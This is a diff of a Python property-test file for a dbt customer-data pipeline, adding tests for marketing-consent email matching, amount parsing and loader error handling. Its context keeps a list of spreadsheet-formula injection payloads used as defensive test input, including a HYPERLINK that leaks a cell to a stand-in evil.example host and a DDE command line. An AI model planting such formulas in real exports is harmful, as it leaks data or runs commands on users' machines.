@@ -22,12 +22,13 @@ import pytest
 import yaml
 from conftest import PROJECT_DIR, SEEDS_DIR, TODAY, Workspace, generate_demo
 from engines import ENGINES, engine_workspace
-from hypothesis import HealthCheck, given, settings
+from hypothesis import HealthCheck, Phase, given, settings
 from hypothesis import strategies as st
 from oracle import CUSTOMER_COLUMNS, ORDER_COLUMNS, Row, expected_rejects, normalise_email, parse_bool
 
 SCRIPTS = PROJECT_DIR / "scripts"
-PROPERTY = settings(max_examples=4, deadline=None, derandomize=True,
+# No shrinking: an example is a dbt run, and the failing input is printed as it is.
+PROPERTY = settings(max_examples=3, deadline=None, derandomize=True, phases=[Phase.explicit, Phase.generate],
                     suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
 FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
             "-2+3", "\tx", "\rx")
@@ -188,3 +189,125 @@ def test_a_hostile_value_of_every_var_is_one_line_and_changes_nothing(built: Wor
     assert proc.returncode != 0 and len(lines) == 1, proc.stdout[-3000:]
     assert "Traceback" not in proc.stdout + proc.stderr
     assert fingerprint(built) == before, f"var {name}: the database changed"
+
+
+# ------------------------------------------------------------------------------------ property: consent
+
+SPACES = ("\u00a0", "\u2003", "\u3000", "\u200b", "\ufeff", " ", "\t", "\u202f")
+
+
+def full_width(text: str) -> str:
+    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" and c not in "'\\" else c for c in text)
+
+
+@st.composite
+def email_variant(draw: st.DrawFn) -> str:
+    """One of two addresses, written the ways people and exports do: case, Unicode spaces, full width."""
+    text = draw(st.sampled_from(["ann@x.com", "bob.smith@y.org"]))
+    text = "".join(c.upper() if draw(st.booleans()) else c for c in text)
+    if draw(st.booleans()):
+        text = full_width(text)
+    return draw(st.sampled_from(SPACES + ("",))) + text + draw(st.sampled_from(SPACES + ("",)))
+
+
+CONSENT_CUSTOMERS = st.lists(st.fixed_dictionaries({
+    "customer_id": st.sampled_from(["c1", "c2", "c3", "c4", "c5", "c6"]),
+    "email": email_variant(),
+    # an unparseable created_at rejects the record: its refusal must count all the same
+    "created_at": st.sampled_from(["2025-01-01", "2025-02-01", None, "not-a-date"]),
+    "accepts_marketing": st.sampled_from(["yes", "no", "TRUE", "false", "0", "1", "maybe", None]),
+}), min_size=1, max_size=8)
+
+
+@pytest.fixture(scope="module", params=ENGINES)
+def engine_ws(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workspace]:
+    with engine_workspace(request.param, tmp_path_factory.mktemp(f"consent_{request.param}")) as ws:
+        ws.dbt("seed")  # once: the examples only run the models
+        yield ws
+
+
+@PROPERTY
+@given(customers=CONSENT_CUSTOMERS)
+def test_no_refused_address_is_ever_an_audience_member(engine_ws: Workspace, customers: list[Row]) -> None:
+    """Random customers with variants of two addresses and every kind of consent, on accepted, duplicate
+    and rejected records: audience_members never holds an address any record refused (on each engine of
+    RFM_TEST_ENGINES: `bash scripts/test.sh postgres` runs it on PostgreSQL too)."""
+    orders = [{"order_id": f"o{i}", "customer_id": f"c{i}", "ordered_at": "2026-06-01", "order_total": "10"}
+              for i in range(1, 7)]
+    engine_ws.load(orders, customers)
+    engine_ws.dbt("run", "--select", "+audience_members")
+    members = {row["email"] for row in engine_ws.read_table("main", "audience_members")}
+    assert not members & refused(customers), (members & refused(customers), customers)
+    assert all(normalise_email(email) == email for email in members), members
+
+
+# ------------------------------------------------------------------------------------ property: amounts
+
+DIGITS = st.text(st.sampled_from("0123456789"), max_size=40)
+AMOUNT_TEXT = st.one_of(
+    st.tuples(st.sampled_from(["", "+", "-", "--", "−", " "]), DIGITS,
+              st.sampled_from(["", ".", ",", "..", "_"]), DIGITS,
+              st.sampled_from(["", "e5", "E-300", "e999999", "%", "\u00a0", " EUR"])).map("".join),
+    st.text(st.sampled_from("0123456789.-+eE, ٠١٢３４\u00a0"), max_size=60),
+    st.sampled_from(["12345678901", "999999999999.99", "9" * 15 + ".995", "9" * 16, "1" + "0" * 100,
+                     "0." + "0" * 100 + "1", "-" + "9" * 38, "NaN", "inf", "1e308"]),
+)
+
+
+@pytest.fixture(scope="module")
+def amounts_ws(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
+    return Workspace(tmp_path_factory.mktemp("amounts"))
+
+
+@PROPERTY
+@given(amounts=st.lists(AMOUNT_TEXT, min_size=1, max_size=25))
+def test_any_amount_is_parsed_or_rejected_never_a_build_error(amounts_ws: Workspace, amounts: list[str]) -> None:
+    """Random amount strings (any length, signs, exponents, separators, scripts) through `dbt build` with
+    its reconciliation tests: it succeeds, and every row is accepted or rejected as the oracle says."""
+    orders = [{"order_id": f"o{i}", "customer_id": "c1", "ordered_at": "2026-06-01", "order_total": amount}
+              for i, amount in enumerate(amounts)] + [
+        {"order_id": "ok", "customer_id": "c1", "ordered_at": "2026-06-01", "order_total": "1"}]
+    customers = [{"customer_id": "c1", "email": "a@x.com"}]
+    amounts_ws.load(orders, customers)
+    proc = amounts_ws.dbt("build", "--select", "+customer_rfm +data_quality_summary +data_quality_rejects",
+                          "--indirect-selection", "cautious", expect_ok=False)
+    assert proc.returncode == 0, proc.stdout[-3000:]
+    rejects = Counter(amounts_ws.query("select source, raw_key, rejection_reason from main.data_quality_rejects"))
+    assert rejects == Counter(expected_rejects(orders, customers, seeds_dir=SEEDS_DIR, today=TODAY))
+    (accepted,) = amounts_ws.query("select count(*) from main.int_orders_validated where rejection_reason is null")[0]
+    assert accepted + sum(rejects.values()) == len(orders)
+
+
+# ---------------------------------------------------------------------------------------------- loader
+
+
+def test_loader_rejects_long_lines_corrupt_files_long_names_and_non_database_targets(built: Workspace,
+                                                                                     tmp_path: Path) -> None:
+    ws = built.clone(tmp_path / "ws")
+    before = fingerprint(ws)
+    customers = write_csv(tmp_path / "customers.csv", HOSTILE_CUSTOMERS, CUSTOMER_COLUMNS)
+    good = ["order_id,customer_id,ordered_at,order_total", *(f"o{i},c1,2026-01-01,1" for i in range(5))]
+    long_line = "o9,c1,2026-01-01," + "9" * 2_000_000
+
+    def orders_file(name: str, lines: list[str], end: str = "\n") -> Path:
+        path = tmp_path / name
+        path.write_text("\n".join(lines) + end, encoding="utf-8")
+        return path
+
+    def load(orders: Path | str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
+        return run_script("load_raw.py", "--orders", str(orders), "--customers", str(customers), env=env or ws.env)
+
+    assert_user_error(load(orders_file("middle.csv", good[:3] + [long_line] + good[3:])), "middle.csv, line 4",
+                      "longer than")
+    # a last line far over DuckDB's own limit, without a final line break: DuckDB alone dropped it silently
+    assert_user_error(load(orders_file("last.csv", good + ["o9,c1,2026-01-01," + "9" * 40_000_000], "")),
+                      "last.csv, line 7", "longer than")
+    (tmp_path / "corrupt.parquet").write_bytes(b"PAR1garbagePAR1")
+    assert_user_error(load(tmp_path / "corrupt.parquet"), "corrupt.parquet", "not a valid Parquet file")
+    assert_user_error(load(tmp_path / ("o" * 300 + ".csv")), "cannot read")
+    for name in ("notadb.csv", "notadb.parquet"):
+        fake = orders_file(name, good)
+        proc = load(orders_file("ok.csv", good), env={**ws.env, "RFM_DUCKDB_PATH": str(fake)})
+        assert_user_error(proc, name, "not a DuckDB database")
+        assert fake.read_text(encoding="utf-8").startswith("order_id")
+    assert fingerprint(ws) == before
